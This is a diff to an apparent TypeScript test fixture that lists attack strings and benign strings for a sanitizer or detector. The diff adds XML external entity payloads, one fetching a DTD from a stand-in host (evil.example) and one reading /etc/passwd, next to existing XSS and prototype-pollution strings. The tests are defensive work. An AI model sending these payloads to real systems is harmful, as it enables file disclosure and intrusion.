@@ -42,6 +42,10 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     'Thanks, we will come on Monday at ten, as you have said in your last letter to us. "-alert(1)-"',
   ],
   'a handler with a long name': ['x" oncontentvisibilityautostatechange="alert(1)//'],
+  'a document type whose quotes are escaped (CWE-611)': [
+    '<!DOCTYPE x SYSTEM \\"http://evil.example/x.dtd\\">',
+    '{"a":"<!DOCTYPE x PUBLIC \\"-//a//b\\" \\"file:///etc/passwd\\">',
+  ],
   'a name that reaches into objects': [
     "a['__proto__']['x']=1",
     '["__proto__"]["isAdmin"]=1',
@@ -65,6 +69,7 @@ const HARMLESS: readonly string[] = [
   "D'><U%P*AQ+Ij:Ku",
   'a[href^="http"]{background:url(icon.png)}',
   'the prototype of a constructor',
+  JSON.stringify({ preview: '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML', until: '2026-01-01' }),
   '<img src="https://cdn.example/a.png?w=1" width="10">',
 ]
 
